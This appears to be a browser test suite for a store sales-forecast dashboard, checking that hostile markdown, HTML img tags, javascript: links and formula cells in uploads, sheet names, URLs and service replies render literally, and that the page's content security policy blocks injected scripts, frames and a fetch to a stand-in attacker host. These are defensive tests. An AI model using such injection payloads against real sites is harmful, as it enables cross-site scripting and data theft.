"""Attacks on a browser: hostile texts on every page, and what the policy of the page stops."""

from collections.abc import Iterator
from io import BytesIO
from typing import Any
from xml.sax.saxutils import quoteattr
from zipfile import ZipFile

import pytest
from xlsxwriter import Workbook  # type: ignore[import-untyped]

from rossmann.dashboard.shared.markdown import visible_line
from tests.fixtures.dashboard import StubService
from tests.fixtures.hostile_texts import ATTACKER, TEXTS, mixed_texts

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
IMAGE = f"![a](http://{ATTACKER}/x)"
TAG = f"<img src=http://{ATTACKER}/y>"
LINK = "[x](javascript:alert(1)) :red[x] $x$ :smile:"
NAME = f"![a](&sol;&sol;{ATTACKER}&sol;x) {LINK}"
"""For names of files, which have no slash."""
FORBIDDEN = "img[src*=attacker], a[href*=attacker], a[href^=javascript], .katex"
COLUMNS = ("Store", "Date", "Open", "Promo", "StateHoliday", "SchoolHoliday")


@pytest.fixture
def open_watched(open_page: Any, stub_dashboard: tuple[StubService, str]) -> Iterator[Any]:
    """Opens a page without its policy: what escaping leaves to fetch, the browser would fetch."""
    requested: list[str] = []
    pages: list[Any] = []

    def open_path(path: str) -> Any:
        page = open_page("about:blank", bypass_csp=True, viewport={"width": 1900, "height": 1000})
        page.on("request", lambda request: requested.append(request.url))
        page.goto(path)
        pages.append(page)
        return page

    yield open_path
    url = stub_dashboard[1]
    own = (url, url.replace("http", "ws"), "data:", f"blob:{url}")
    assert [url for url in requested if not url.startswith(own)] == []
    for page in pages:
        assert page.locator(FORBIDDEN).evaluate_all("all => all.map(e => e.outerHTML)") == []


def upload(page: Any, name: str, content: str | bytes) -> None:
    data = content.encode() if isinstance(content, str) else content
    file = {"name": name, "mimeType": "text/plain", "buffer": data}
    page.locator("input[type=file]").set_input_files(file)
    page.get_by_test_id("stFileChip").first.wait_for()


def csv(*rows: str, columns: tuple[str, ...] = COLUMNS) -> str:
    return "\n".join((",".join((*columns, IMAGE, TAG)), *rows, ""))


def wait_for_text(page: Any, text: str) -> None:
    page.get_by_test_id("stMain").get_by_text(text).first.wait_for()


def test_hostile_file_is_shown_literally(open_watched: Any) -> None:
    page = open_watched("/batch")
    row = f"1,2015-08-03,1,0,0,0,{TAG},{IMAGE}"
    upload(page, f"{NAME}.csv", csv(row, f"1,{IMAGE},1,0,0,0,=1+1,{LINK}", f"{TAG},,,,,,,"))
    wait_for_text(page, f"{NAME}.csv: 3 rows, 1 can be forecast.")
    faults = page.get_by_test_id("stDataFrame").locator("[role=gridcell]")
    faults.filter(has_text=IMAGE).first.wait_for(state="attached")
    page.get_by_role("button", name="Forecast 1 rows").click()
    page.get_by_role("tab", name="All rows, as uploaded").click()
    panel = page.get_by_role("tabpanel", name="All rows, as uploaded")
    for column in (IMAGE, TAG):
        header = panel.locator("[role=columnheader]").filter(has_text=column)
        header.wait_for(state="attached")
        panel.locator("[role=gridcell]").filter(has_text=column).first.wait_for(state="attached")
    grid = panel.get_by_test_id("stDataFrame")
    box = grid.bounding_box()
    for x in range(60, int(box["width"]), 240):  # opens cells of the first row
        page.mouse.dblclick(box["x"] + x, box["y"] + 52)
        page.keyboard.press("Escape")
    announced = page.locator(".st-key-announcement")
    announced.filter(has_text="total forecast").wait_for(state="attached")
    assert announced.inner_text().startswith(f"{NAME}.csv: total forecast")


@pytest.mark.nightly
def test_hostile_names_in_faults_of_a_file_are_shown_literally(open_watched: Any) -> None:
    page = open_watched("/batch")
    upload(page, f"{NAME}.csv", csv("1,2015-08-03", columns=("Store", "Date")))
    wait_for_text(page, "This file cannot be used.")
    wait_for_text(page, f"{NAME}.csv")
    wait_for_text(page, IMAGE)
    sheets = (IMAGE, f"www.{ATTACKER} $x$ $y$")
    page.get_by_role("button", name="Remove").first.click()
    upload(page, "sheets.xlsx", workbook(sheets))
    for sheet in sheets:
        wait_for_text(page, sheet)
    page.get_by_text(sheets[1]).first.click()
    wait_for_text(page, "1 rows, 1 can be forecast")


def workbook(names: tuple[str, ...]) -> bytes:
    """A workbook with names of sheets that Excel would not allow."""
    made, renamed = BytesIO(), BytesIO()
    with Workbook(made) as book:
        for index in range(len(names)):
            sheet = book.add_worksheet(f"name{index}")
            sheet.write_row(0, 0, COLUMNS)
            sheet.write_row(1, 0, (1, "2015-08-03", 1, 0, 0, 0))
    with ZipFile(made) as source, ZipFile(renamed, "w") as target:
        for part in source.namelist():
            text = source.read(part).decode()
            for index, name in enumerate(names):
                text = text.replace(f'name="name{index}"', f"name={quoteattr(name)}")
            target.writestr(part, text)
    return renamed.getvalue()


def test_hostile_url_is_shown_literally(open_watched: Any) -> None:
    query = f"store={IMAGE}&date={TAG}&objective={TAG}&open={TAG}&{TAG}={IMAGE}"
    page = open_watched("/single?" + query.replace(":", "%3A"))
    wait_for_text(page, f"There is no store {IMAGE}.")
    page.wait_for_function(
        "text => [...document.querySelectorAll('input')].some(e => e.value === text)", arg=TAG
    )
    box = page.get_by_role("combobox", name="Store")
    box.fill(LINK)
    page.get_by_role("option").first.wait_for()
    box.press("Enter")
    wait_for_text(page, f"There is no store {LINK}.")


def test_hostile_answers_of_the_service_are_shown_literally(
    open_watched: Any, stub: StubService, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Errors and warnings repeat input; names of drivers and types of stores come from data."""
    store, explain = stub._store, stub.explain

    def explain_hostile(body: Any) -> Any:
        status, response = explain(body)
        for driver in response["explanations"][0]["drivers"]:
            driver["label"] = f"{driver['name']} {TAG}"
        return status, response

    texts = [text for text in [*TEXTS, *mixed_texts(300, seed=7)] if not text.endswith(".")]
    warnings = [{"type": "horizon", "msg": text, "count": 1, "rows": [0]} for text in texts]
    monkeypatch.setattr(stub, "_warnings", lambda _: warnings)
    monkeypatch.setattr(stub, "explain", explain_hostile)
    monkeypatch.setattr(stub, "_store", lambda n: {**store(n), "store_type": TAG})
    stub.status, stub.reason = "degraded", f"{IMAGE} {LINK}"
    page = open_watched("/single?store=2&date=2015-08-10")
    shown = page.get_by_test_id("stAlert").locator("p")
    shown.first.wait_for()
    sentences = [visible_line(f"{text[:1].upper()}{text[1:]}.") for text in texts]
    assert shown.evaluate_all("all => all.map(e => e.textContent)") == sentences
    bar = page.locator("svg.marks path[aria-label*='promotion']").first
    bar.hover(force=True)
    page.locator("#vg-tooltip-element.visible").get_by_text(TAG).wait_for()
    page.goto("/")
    wait_for_text(page, f"The service is not at its best: {stub.reason}")


def test_policy_stops_what_a_text_would_fetch(open_page: Any) -> None:
    """The second line of defence: as if a text had come into the page as HTML."""
    page = open_page("/")
    page.get_by_role("heading", name="What will this store sell?").wait_for()
    stopped = page.evaluate(f"""async () => {{
      const stopped = [];
      document.addEventListener("securitypolicyviolation", event =>
        stopped.push(`${{event.effectiveDirective}} ${{event.blockedURI}}`));
      document.body.insertAdjacentHTML("beforeend",
        `<img src="http://{ATTACKER}/x" onerror="window.hacked = true">
         <iframe src="http://{ATTACKER}/f"></iframe>`);
      const script = document.createElement("script");
      script.textContent = "window.hacked = true";
      document.body.append(script);
      const sent = await fetch("http://{ATTACKER}/send").then(() => "sent", () => "refused");
      await new Promise(resolve => setTimeout(resolve, 300));
      return [...new Set(stopped)].sort().concat([sent, String(window.hacked)]);
    }}""")
    assert stopped == [
        f"connect-src http://{ATTACKER}/send",
        f"frame-src http://{ATTACKER}",
        f"img-src http://{ATTACKER}/x",
        "script-src-attr inline",
        "script-src-elem inline",
        "refused",
        "undefined",
    ]
